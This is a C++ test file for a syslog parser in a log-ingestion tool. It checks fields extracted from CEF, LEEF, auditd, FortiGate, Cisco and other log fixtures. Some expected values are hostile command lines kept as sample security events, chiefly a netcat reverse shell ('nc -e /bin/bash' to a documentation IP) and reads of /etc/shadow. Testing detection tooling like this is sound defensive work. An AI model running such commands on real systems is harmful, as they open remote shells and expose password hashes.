// SPDX-License-Identifier: Apache-2.0
#include "ingest/syslog/body.h"

#include "ingest/syslog/pattern.h"
#include "ingest/testing/fixtures.h"

namespace backtrail::ingest {
namespace {

using testing::Collected;
using testing::demand_for;
using testing::read_fixture;

using Categories = std::vector<std::string>;

TEST(SyslogBody, CefWithAndWithoutAMessageAround) {
  const Collected got = read_fixture("syslog-cef.log", "syslog");
  ASSERT_EQ(got.records.size(), 2U);
  const auto& first = got.records[0];
  EXPECT_EQ(first.time, "2021-03-04T05:06:07.12Z");  // the event's own, not the message's
  EXPECT_EQ(first.value("host"), "fw1");
  EXPECT_EQ(first.value("deviceVendor"), "Fortinet");
  EXPECT_EQ(first.value("name"), "traffic:forward close");
  EXPECT_EQ(first.value("src_ip"), "192.0.2.7");
  EXPECT_EQ(first.value("dst_port"), "443");
  EXPECT_EQ(first.value("cs1"), "out = all");
  EXPECT_EQ(first.value("msg"), "closed by \\client\nnow");
  EXPECT_EQ(first.source.product, "fortigate");
  EXPECT_EQ(got.records[1].value("name"), "Malware | found");
  EXPECT_EQ(got.records[1].value("src_user"), "CORP\\alice");
  EXPECT_EQ(got.records[1].time, "2021-03-04T05:06:08Z");
  EXPECT_EQ(read_fixture("syslog-cef.log", "syslog", demand_for({"Policy Name"})).records[0].value("Policy Name"),
            "out = all");
}

TEST(SyslogBody, WhatNoFieldHasIsInTheMessage) {
  const Collected got = read_fixture("syslog-left.log", "syslog");
  ASSERT_EQ(got.records.size(), 11U);
  for (std::size_t i = 0; i < got.records.size(); ++i) {
    const std::string message = got.records[i].value("message");
    const bool left = i != 1 && i != 4 && i != 6 && i != 8 && i != 10;
    EXPECT_EQ(message != "<absent>", left) << i << " " << message;
  }
  EXPECT_EQ(got.records[0].value("msg"), "dial");
}

TEST(SyslogBody, LeefInBothVersions) {
  const Collected got = read_fixture("syslog-leef.log", "syslog");
  ASSERT_EQ(got.records.size(), 3U);
  EXPECT_EQ(got.records[0].value("user"), "alice smith");
  EXPECT_EQ(got.records[0].value("eventId"), "login");
  EXPECT_EQ(got.records[0].time, "2021-03-04T05:06:06Z");
  EXPECT_EQ(got.records[1].value("dst_port"), "22");
  EXPECT_EQ(got.records[2].value("proto"), "UDP");
}

TEST(SyslogBody, AuditRecordsUnderTheAuditsOwnNames) {
  const Collected got = read_fixture("syslog-auditd.log", "syslog");
  ASSERT_EQ(got.records.size(), 6U);
  const auto& call = got.records[0];
  EXPECT_EQ(call.time, "2021-03-04T05:06:07.243Z");
  EXPECT_EQ(call.value("type"), "SYSCALL");
  EXPECT_EQ(call.value("SYSCALL"), "execve");
  EXPECT_EQ(call.value("exe"), "/usr/bin/nc");
  EXPECT_EQ(call.value("a0"), "55d1");
  EXPECT_EQ(call.value("audit_id"), "24287");
  EXPECT_EQ(call.source.service, "auditd");
  EXPECT_EQ(got.records[1].value("a1"), "-e");
  EXPECT_EQ(got.records[1].value("a2"), "/bin/bash x y");
  EXPECT_EQ(got.records[1].source.categories, Categories{"process_creation"});
  EXPECT_EQ(got.records[2].value("proctitle"), "nc -e /bin/bash");
  EXPECT_EQ(got.records[3].value("acct"), "root");
  EXPECT_EQ(got.records[3].value("res"), "failed");
  EXPECT_EQ(got.records[3].value("hostname"), "<absent>");
  EXPECT_EQ(got.records[3].value("Computer"), "web1");
  EXPECT_EQ(got.records[4].values("SYSCALL"), std::vector<std::string>{"ptrace"});
  EXPECT_EQ(got.records[4].value("key"), "<absent>");
  EXPECT_EQ(got.records[5].value("name"), "/etc/shadow");
  EXPECT_EQ(got.records[5].value("host"), "web2");
  const Collected asked = read_fixture("syslog-auditd.log", "syslog", demand_for({"CommandLine", "Image"}));
  EXPECT_EQ(asked.records[1].value("CommandLine"), "nc -e /bin/bash x y");
  EXPECT_EQ(asked.records[1].value("Image"), "nc");
}

TEST(SyslogBody, FortigatesPairs) {
  const Collected got = read_fixture("syslog-fortigate.log", "syslog");
  ASSERT_EQ(got.records.size(), 2U);
  EXPECT_EQ(got.records[0].time, "2021-03-04T05:06:07.1234567Z");
  EXPECT_EQ(got.records[0].value("cfgpath"), "system.admin");
  EXPECT_EQ(got.records[0].value("msg"), "Edit \"system.admin\" admin");
  EXPECT_EQ(got.records[0].source.product, "fortigate");
  EXPECT_EQ(got.records[0].source.service, "event");
  EXPECT_EQ(got.records[1].time, "2021-03-04T05:06:08Z");
  EXPECT_EQ(got.records[1].value("src_ip"), "192.0.2.7");
  EXPECT_EQ(got.records[1].source.categories, Categories{"firewall"});
}

TEST(SyslogBody, LogfmtNamesItsOwnTime) {
  const Collected got = read_fixture("syslog-logfmt.log", "syslog");
  ASSERT_EQ(got.records.size(), 2U);
  EXPECT_EQ(got.records[0].time, "2021-03-04T05:06:07Z");
  EXPECT_EQ(got.records[0].value("msg"), "request done");
  EXPECT_EQ(got.records[1].time, "2021-03-04T05:06:08.5Z");
  EXPECT_EQ(got.records[1].value("user"), "j\"d");
}

TEST(SyslogBody, CiscosMessages) {
  const Collected got = read_fixture("syslog-cisco.log", "syslog");
  ASSERT_EQ(got.records.size(), 5U);
  const auto& built = got.records[0];
  EXPECT_EQ(built.time, "2021-03-04T05:06:07Z");
  EXPECT_EQ(built.value("host"), "asa1");
  EXPECT_EQ(built.value("cisco_mnemonic"), "302013");
  EXPECT_EQ(built.value("src_ip"), "192.0.2.7");
  EXPECT_EQ(built.value("dst_ip"), "198.51.100.4");
  EXPECT_EQ(built.source.service, "asa");
  EXPECT_EQ(built.source.categories, Categories{"firewall"});
  EXPECT_EQ(got.records[1].value("action"), "Deny");
  EXPECT_EQ(got.records[1].value("rule"), "outside_in");
  EXPECT_EQ(got.records[2].value("user"), "alice");
  EXPECT_EQ(got.records[2].value("src_ip"), "198.51.100.6");
  EXPECT_EQ(got.records[3].time, "2021-03-04T05:06:10Z");
  EXPECT_EQ(got.records[3].value("user"), "admin");
  EXPECT_EQ(got.records[3].source.service, "syslog");
  EXPECT_EQ(got.records[4].value("reason"), "Login Authentication Failed");
  EXPECT_EQ(got.records[4].source.service, "aaa");
}

TEST(SyslogBody, ProgramsSentencesAndFormsInsideMessages) {
  const Collected got = read_fixture("syslog-programs.log", "syslog");
  ASSERT_EQ(got.records.size(), 9U);
  EXPECT_EQ(got.records[0].value("user"), "oracle");
  EXPECT_EQ(got.records[0].value("src_port"), "51234");
  EXPECT_EQ(got.records[0].value("message"), "Failed password for invalid user oracle from 192.0.2.7 port 51234 ssh2");
  EXPECT_EQ(got.records[1].value("auth_method"), "publickey");
  EXPECT_EQ(got.records[1].value("src_ip"), "2001:db8::7");
  EXPECT_EQ(got.records[2].value("USER"), "root");
  EXPECT_EQ(got.records[2].value("COMMAND"), "/bin/cat /etc/shadow");
  EXPECT_EQ(got.records[3].value("user"), "bob");
  EXPECT_EQ(got.records[3].source.service, "openvpn");
  EXPECT_EQ(got.records[4].value("assigned_ip"), "10.8.0.6");
  EXPECT_EQ(got.records[5].value("cs-uri-stem"), "/x.php");
  EXPECT_EQ(got.records[5].source.service, "nginx");
  EXPECT_EQ(got.records[5].source.categories, Categories{"webserver"});
  EXPECT_EQ(got.records[6].source.service, "haproxy");
  EXPECT_EQ(got.records[7].value("user.name"), "carol");
  EXPECT_EQ(got.records[8].value("CommandLine"), "nc -e /bin/bash 192.0.2.7");
  EXPECT_EQ(got.records[8].source.product, "linux");
  EXPECT_EQ(got.records[8].source.categories, Categories{"process_creation"});
}

TEST(SyslogPattern, NamesTakeWhatStandsBetweenTheWords) {
  std::vector<std::pair<std::string_view, std::string_view>> found;
  const syslog::Pattern pattern("for {user} from {ip}:{} then {rest*}");
  ASSERT_TRUE(pattern.match("for a b from 192.0.2.1:77 then x y", found));
  EXPECT_EQ(found.size(), 3U);
  EXPECT_EQ(found[0].second, "a b");
  EXPECT_EQ(found[1].second, "192.0.2.1");
  EXPECT_EQ(found[2].second, "x y");
  EXPECT_FALSE(pattern.match("for a from 192.0.2.1", found));
  EXPECT_FALSE(pattern.match("four a from b:c then d", found));
  EXPECT_FALSE(syslog::Pattern("{user} : x").match("two words : x", found));
}

}  // namespace
}  // namespace backtrail::ingest
